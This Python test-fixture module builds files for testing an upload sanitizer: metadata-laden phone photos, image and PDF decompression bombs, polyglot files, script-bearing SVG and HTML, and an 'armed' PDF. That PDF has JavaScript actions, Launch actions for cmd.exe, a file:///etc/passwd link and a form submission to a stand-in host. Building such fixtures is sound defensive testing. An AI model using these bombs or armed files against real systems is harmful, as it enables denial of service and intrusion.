"""Files that people might upload, made here: ordinary ones, and ones made to break whatever opens them."""

import io
import struct
import zipfile
import zlib
from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String
from PIL import Image, ImageCms, PngImagePlugin

GPS_IFD = 0x8825
ORIENTATION = 0x0112
MAKER = 0x010F
RED_LEFT = (220, 30, 30)
BLUE_RIGHT = (30, 30, 220)


def two_colours(width: int, height: int) -> Image.Image:
    """Red on its left half, blue on its right: turned, it shows."""
    picture = Image.new("RGB", (width, height), RED_LEFT)
    picture.paste(BLUE_RIGHT, (width // 2, 0, width, height))
    return picture


def encoded(picture: Image.Image, kind: str, **options: object) -> bytes:
    """The picture's bytes in a format of Pillow's."""
    file = io.BytesIO()
    picture.save(file, kind, **options)
    return file.getvalue()


def told_all(orientation: int = 1) -> Image.Exif:
    """EXIF with a place, a maker and an orientation."""
    exif = Image.Exif()
    exif[MAKER] = "Polkuphone"
    exif[ORIENTATION] = orientation
    exif.get_ifd(GPS_IFD).update({1: "N", 2: (60.0, 10.0, 15.0), 3: "E", 4: (24.0, 56.0, 15.0)})
    return exif


SRGB = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def swapped_profile() -> bytes:
    """A colour profile in which red means green and green means red."""
    swapped = SRGB.replace(b"rXYZ", b"????", 1).replace(b"gXYZ", b"rXYZ", 1).replace(b"????", b"gXYZ", 1)
    return swapped.replace("sRGB".encode("utf-16-be"), "Swap".encode("utf-16-be"))


XMP = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF>GPSLatitude 60,10N</rdf:RDF></x:xmpmeta>'


def phone_photo(width: int = 4032, height: int = 3024, orientation: int = 6) -> bytes:
    """A JPEG as a phone makes it: sideways (6: its top is at the right), with place, maker, XMP, comment, profile."""
    grain = Image.effect_noise((width // 8, height // 8), 60).resize((width, height)).convert("RGB")
    photo = Image.blend(two_colours(width, height), grain, 0.2)
    told = {"exif": told_all(orientation), "xmp": XMP, "comment": b"my home", "icc_profile": SRGB}
    return encoded(photo, "JPEG", quality=92, **told)


def talkative_png() -> bytes:
    """A PNG with EXIF, XMP and text chunks, plain and compressed."""
    told = PngImagePlugin.PngInfo()
    told.add_text("Author", "Siiri Salmi")
    told.add_itxt("XML:com.adobe.xmp", XMP.decode())
    told.add_text("Comment", "GPS 60.17 24.94", zip=True)
    return encoded(two_colours(60, 40), "PNG", pnginfo=told, exif=told_all())


def talkative_webp() -> bytes:
    """A WebP with EXIF and XMP."""
    return encoded(two_colours(60, 40), "WEBP", exif=told_all().tobytes(), xmp=XMP)


def png_chunk(kind: bytes, data: bytes) -> bytes:
    """One chunk of a PNG with its length and checksum."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb(side: int = 20_000) -> bytes:
    """A few kilobytes that are a whole, valid PNG of `side` × `side` pixels, all black."""
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    packer = zlib.compressobj(9)
    row = b"\0" * (1 + (side + 7) // 8)
    rows = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", rows) + png_chunk(b"IEND", b"")


def jpeg_bomb(side: int = 20_000) -> bytes:
    """A small JPEG whose header says that it has `side` × `side` pixels."""
    small = bytearray(encoded(two_colours(64, 64), "JPEG"))
    frame = small.index(b"\xff\xc0")
    small[frame + 5 : frame + 9] = struct.pack(">HH", side, side)
    return bytes(small)


def webp_bomb(side: int = 16_384) -> bytes:
    """A WebP whose extended header says that its canvas has `side` × `side` pixels, the most that WebP can say."""
    still = encoded(two_colours(64, 64), "WEBP")[12:]
    canvas = (side - 1).to_bytes(3, "little")
    extended = b"VP8X" + struct.pack("<I", 10) + b"\0\0\0\0" + canvas + canvas
    body = b"WEBP" + extended + still
    return b"RIFF" + struct.pack("<I", len(body)) + body


def text_bomb() -> bytes:
    """A PNG with a compressed text chunk of 200 MB."""
    packed = zlib.compress(b"A" * 200_000_000, 9)
    whole = encoded(two_colours(8, 8), "PNG")
    return whole[:33] + png_chunk(b"zTXt", b"Comment\0\0" + packed) + whole[33:]


def picture_and_zip() -> bytes:
    """A JPEG that is a ZIP archive as well."""
    archive = io.BytesIO(encoded(two_colours(64, 48), "JPEG"))
    with zipfile.ZipFile(archive, "a") as file:
        file.writestr("payload.html", "<script>alert(1)</script>" * 40)
    return archive.getvalue()


def gif_and_page() -> bytes:
    """What some readers take for a GIF and others for a page with a script."""
    return b"GIF89a/*<html><script>alert(1)</script></html>*/=1;"


def heic_head() -> bytes:
    """The beginning of a HEIC picture."""
    return struct.pack(">I", 24) + b"ftypheic\0\0\0\0mif1heic" + b"\0" * 200


def document(pages: int = 1) -> Pdf:
    """A PDF open for changes, with one line of text on each page."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    for number in range(pages):
        page = pdf.add_blank_page(page_size=(595, 842))
        page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
        page.obj.Contents = pdf.make_stream(b"BT /F1 12 Tf 72 720 Td (Page %d) Tj ET" % (number + 1))
    return pdf


def saved(pdf: Pdf, **options: object) -> bytes:
    """The document's bytes."""
    file = io.BytesIO()
    pdf.save(file, **options)  # type: ignore[arg-type]
    return file.getvalue()


def link(action: Dictionary, subtype: str = "/Link") -> Dictionary:
    """An annotation that does `action` when it is clicked."""
    return Dictionary(Type=Name.Annot, Subtype=Name(subtype), Rect=Array([0, 0, 50, 50]), A=action)


def armed_document() -> bytes:
    """A PDF with one of everything that must not stay, and with what must: text, an outline, an ordinary link."""
    pdf = document(2)
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert('GPS')"))
    hidden = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=pdf.make_stream(b"app.alert(2)")))
    pdf.Root.OpenAction = script
    pdf.Root.AA = Dictionary(WC=hidden)
    pdf.Root.URI = Dictionary(Base=String("https://tracker.example"))
    pdf.attachments["payload.exe"] = b"MZ payload"
    pdf.Root.Names.JavaScript = Dictionary(Names=Array([String("start"), hidden]))
    pdf.Root.AcroForm = pdf.make_indirect(Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp>form</xdp>")))
    pdf.docinfo[Name.Author] = "Siiri Salmi"
    with pdf.open_metadata() as metadata:
        metadata["dc:title"] = "SecretTitle"
    page = pdf.pages[0].obj
    page.AA = Dictionary(O=script)
    page.PieceInfo = Dictionary(Maker=Dictionary(Private=String("SecretMaker")))
    photo = pdf.make_stream(encoded(two_colours(64, 48), "JPEG", exif=told_all()), Filter=Name.DCTDecode)
    photo.Type, photo.Subtype, photo.ColorSpace = Name.XObject, Name.Image, Name.DeviceRGB
    photo.Width, photo.Height, photo.BitsPerComponent = 64, 48, 8
    page.Resources.XObject = Dictionary(Photo=photo)
    chain = Array([script, Dictionary(S=Name.Launch, F=String("cmd.exe"))])
    annotations = [
        link(Dictionary(S=Name.URI, URI=String("https://example.org/course"), Next=chain)),
        link(Dictionary(S=Name.URI, URI=String("javascript:alert(1)"))),
        link(Dictionary(S=Name.URI, URI=String("file:///etc/passwd"))),
        link(Dictionary(S=Name.Launch, F=String("cmd.exe"))),
        link(Dictionary(S=Name.GoToR, F=String("other.pdf"), D=Array([0, Name.Fit]))),
        link(Dictionary(S=Name.SubmitForm, F=String("https://collect.example"))),
        link(Dictionary(S=Name.ImportData, F=String("data.fdf"))),
        link(Dictionary(S=Name.Unheard, X=script)),
        link(script, "/RichMedia"),
        link(script, "/Screen"),
        Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9])),
    ]
    page.Annots = pdf.make_indirect(Array([pdf.make_indirect(each) for each in annotations]))
    with pdf.open_outline() as outline:
        outline.root.extend([pikepdf.OutlineItem("First", 0), pikepdf.OutlineItem("Second", 1)])
    return saved(pdf)


def stream_bomb() -> bytes:
    """A PDF whose page content unpacks to 400 MB."""
    pdf = document()
    packed = zlib.compress(b" " * 400_000_000, 9)
    pdf.pages[0].obj.Contents = Stream(pdf, packed, Dictionary(Filter=Name.FlateDecode))
    return saved(pdf, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def double_bomb() -> bytes:
    """A PDF whose page content is packed twice, 400 MB within 400 KB within a few hundred bytes."""
    pdf = document()
    packed = zlib.compress(zlib.compress(b" " * 400_000_000, 9), 9)
    pdf.pages[0].obj.Contents = Stream(pdf, packed, Dictionary(Filter=Array([Name.FlateDecode, Name.FlateDecode])))
    return saved(pdf, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def object_stream_bomb(size: int = 600_000_000) -> bytes:
    """A PDF whose catalogue lies in an object stream that unpacks to `size` bytes. It has no page."""
    objects = b"1 0 2 40 " + b"<< /Type /Catalog /Pages 2 0 R >>".ljust(40) + b"<< /Type /Pages /Kids [] /Count 0 >>"
    first = objects.index(b"<<")
    packed = zlib.compress(objects + b" " * size, 9)
    head = b"%PDF-1.5\n"
    holder = b"3 0 obj\n<< /Type /ObjStm /N 2 /First %d /Filter /FlateDecode" % first
    holder += b" /Length %d >>\nstream\n" % len(packed)
    holder += packed + b"\nendstream\nendobj\n"
    rows = bytes([0, 0, 0, 0, 0, 2, 0, 0, 3, 0, 2, 0, 0, 3, 1, 1, 0, 0, len(head), 0])
    at = len(head) + len(holder)
    rows += bytes([1, *at.to_bytes(3), 0])
    table = b"4 0 obj\n<< /Type /XRef /Size 5 /W [1 3 1] /Root 1 0 R /Length %d >>\nstream\n" % len(rows)
    return head + holder + table + rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % at


SHARED = Path(__file__).parents[3] / "shared" / "data" / "images"
"""Pictures of others that broke other programs, where this checkout lies beside them; no part of this project."""


def shared_pictures() -> dict[str, bytes]:
    """Those pictures by name; none where they are not."""
    return {path.name: path.read_bytes() for path in sorted(SHARED.iterdir())} if SHARED.is_dir() else {}


def hostile_files() -> dict[str, bytes]:
    """Our own by what they are: bombs, files that are two things at once, cut off, empty, called what they are not."""
    photo = phone_photo(640, 480)
    return {
        "nothing.jpg": b"",
        "one byte.jpg": b"\xff",
        "png bomb.png": png_bomb(),
        "jpeg bomb.jpg": jpeg_bomb(),
        "webp bomb.webp": webp_bomb(),
        "text bomb.png": text_bomb(),
        "picture and archive.jpg": picture_and_zip(),
        "picture and page.gif": gif_and_page(),
        "picture and document.jpg": photo + saved(document()),
        "document and picture.pdf": saved(document()) + photo,
        "photo.heic": heic_head(),
        "cut off.jpg": photo[: len(photo) // 2],
        "cut off.png": talkative_png()[:-30],
        "cut off.webp": talkative_webp()[:90],
        "a webp called.jpg": talkative_webp(),
        "a document called.jpg": saved(document()),
        "a page called.png": b"<html><script>alert(1)</script></html>",
        "a program called.jpg": b"MZ" + bytes(4000),
        "drawing.svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        "bomb.pdf": stream_bomb(),
        "double bomb.pdf": double_bomb(),
        "armed.pdf": armed_document(),
        "cut off.pdf": saved(document())[:-200],
    }
